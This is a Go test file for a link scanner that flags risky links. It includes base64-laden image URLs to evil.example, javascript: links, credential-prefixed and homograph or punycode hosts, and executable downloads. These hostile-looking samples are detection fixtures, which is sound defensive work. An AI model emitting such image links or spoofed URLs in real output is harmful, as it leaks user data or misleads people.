package link

import (
	"strings"
	"testing"
)

func TestScan(t *testing.T) {
	for _, c := range []struct {
		text, whole, address, host string
		image                      bool
		signs                      Signs
	}{
		{"see https://example.com/a.", "https://example.com/a.", "https://example.com/a.", "example.com", false, 0},
		{"![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE=) more", "![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE=)", "https://evil.example/p.png?d=c2VjcmV0IGRhdGE=", "evil.example", true, Data},
		{"a [b [c]](https://e.example 'title') d", "[b [c]](https://e.example 'title')", "https://e.example", "e.example", false, 0},
		{`x <img alt=1 src="https://e.example/?q=12345678"> y`, `<img alt=1 src="https://e.example/?q=12345678">`, "https://e.example/?q=12345678", "e.example", true, Data},
		{`<a href='http://e.example/setup.exe'>`, `<a href='http://e.example/setup.exe'>`, "http://e.example/setup.exe", "e.example", false, Executable},
		{"[r]: https://e.example/x", "https://e.example/x", "https://e.example/x", "e.example", true, 0},
		{"[x](javascript:alert(1))", "[x](javascript:alert(1)", "javascript:alert(1", "", false, Script},
		{"http://bank.example@evil.example/", "http://bank.example@evil.example/", "http://bank.example@evil.example/", "evil.example", false, Credentials},
		{"http://0x7f.1/", "http://0x7f.1/", "http://0x7f.1/", "0x7f.1", false, Numeric | OddNumeric},
		{"https://p\u0430ypal.example/", "https://p\u0430ypal.example/", "https://p\u0430ypal.example/", "p\u0430ypal.example", false, Mixed},
		{"https://xn--pypal-4ve.example/", "https://xn--pypal-4ve.example/", "https://xn--pypal-4ve.example/", "xn--pypal-4ve.example", false, Punycode},
		{"<https://e.example/a>", "https://e.example/a", "https://e.example/a", "e.example", false, 0},
		{"![x](https://e.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YTEy.png)", "![x](https://e.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YTEy.png)", "https://e.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YTEy.png", "e.example", true, Data},
	} {
		all := Scan([]byte(c.text), 0, nil)
		if len(all) != 1 {
			t.Errorf("%q has %d links", c.text, len(all))
			continue
		}
		l := all[0]
		if got := c.text[l.Start:l.End]; got != c.whole {
			t.Errorf("%q: whole %q", c.text, got)
		}
		if got := c.text[l.From:l.To]; got != c.address {
			t.Errorf("%q: address %q", c.text, got)
		}
		if string(l.Host) != c.host || l.Image != c.image || l.Signs != c.signs {
			t.Errorf("%q: host %q, image %v, signs %b", c.text, l.Host, l.Image, l.Signs)
		}
	}
	for _, text := range []string{"", ":", "a: b", "JavaScript: the good parts", "12:30", "data: none", "mailto:a@b.example", "x::y", "://", "[a](b)"} {
		if all := Scan([]byte(text), 0, nil); len(all) > 0 {
			t.Errorf("%q: %+v", text, all)
		}
	}
}

// What Open lets go can be no part of a link that a later byte completes, but for the letters of its scheme.
func TestOpen(t *testing.T) {
	for text, want := range map[string]string{
		"plain words": "", "see https://e": "https://e", "a [b": "[b", "a ![b](https://e": "![b](https://e", "done [1] and": "", "[x](y) z": "", "x <img sr": "<img sr", "a < b": "",
		"at 12:30": "", "note: ": "", "a ![b]": "![b]", "see [1]": "[1]", "<b>bold</b> t": "", "http": "",
	} {
		if got := text[Open([]byte(text), 0):]; got != want {
			t.Errorf("%q holds %q, want %q", text, got, want)
		}
	}
}

func FuzzScan(f *testing.F) {
	f.Add([]byte("![x](https://a.example/?d=1) <img src='http://b/'>"), 0)
	f.Add([]byte("[a](javascript:x) ]( :// <a href=http://[::1]/"), 3)
	f.Fuzz(func(t *testing.T, text []byte, from int) {
		if from < 0 || from > len(text) {
			from = 0
		}
		last := from
		for _, l := range Scan(text, from, nil) {
			if l.Start < from || l.Start > l.From || l.From >= l.To || l.To > l.End || l.End > len(text) {
				t.Fatalf("%+v of %d bytes from %d", l, len(text), from)
			}
			last = l.End
		}
		if o := Open(text, from); o < from || o > len(text) {
			t.Fatalf("open at %d", o)
		}
		_ = last
	})
}

// A long line of brackets and colons costs no more than its length times a constant.
func TestHostile(t *testing.T) {
	for _, unit := range []string{"[", "](", "<", ":", "http://", "![a](http://x", "<img src=http://x "} {
		text := []byte(strings.Repeat(unit, 64<<10/len(unit)))
		Scan(text, 0, nil)
		Open(text, 0)
	}
}
